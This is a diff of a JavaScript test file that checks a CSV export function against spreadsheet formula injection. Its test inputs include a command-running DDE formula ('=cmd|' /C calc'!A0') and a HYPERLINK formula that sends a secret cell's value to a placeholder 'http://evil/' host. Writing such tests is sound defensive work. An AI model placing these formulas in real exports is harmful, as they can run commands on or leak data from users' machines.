@@ -94,10 +94,22 @@ inPage("a CSV report keeps its form, quotes words that need it, and holds no for
   const semicolons = `a;b\n${token("x;y")};${token("x,y")}`;
   return [await bt.revealCsv(text, owner), await bt.revealCsv(semicolons, owner), await bt.revealCsv("", owner)];
 }, ([commas, semicolons, empty]) => {
-  assert.equal(commas, "\uFEFFapp,title,n\r\nwinword.exe,\"a \"\"quoted\"\", title\",5\r\n'=cmd|' /C calc'!A0,\"two\nlines\",-12.5\r\n"
+  assert.equal(commas, "\uFEFFapp,title,n\r\nwinword.exe,\"a \"\"quoted\"\", title\",5\r\n\"'=cmd|' /C calc'!A0\",\"two\nlines\",-12.5\r\n"
     + "'=1+1,'+SUM(A1),'@x\r\n\"'\t=1\",-5,'- x\r\nx\r'=HYPERLINK(A1),\"'\n=1\",'＝1\r\nunclosed end");
   assert.equal(semicolons, "a;b\n\"x;y\";\"x,y\"");
   assert.equal(empty, "");
+});
+
+inPage("a CSV report keeps its cells whatever separator a spreadsheet takes", async () => {
+  const owner = new bt.FakeOwner();
+  const [app, secret] = [owner.token("x", 1, 64), owner.token("secret", 1, 64)];
+  return [
+    await bt.revealCsv(`sep=|\napp,word\n${app}|=HYPERLINK("http://evil/"&A2),${secret}`, owner),
+    await bt.revealCsv(`app,word\n${app};=HYPERLINK(A2);y,${secret}`, owner),
+  ];
+}, ([excel, semicolons]) => {
+  assert.equal(excel, "\"'sep=|\"\napp,word\n\"x|=HYPERLINK(\"\"http://evil/\"\"&A2)\",secret");
+  assert.equal(semicolons, "app,word\n\"x;=HYPERLINK(A2);y\",secret");
 });
 
 inPage("a revealed address opens only after a confirmation, and only if it is http or https", async () => {
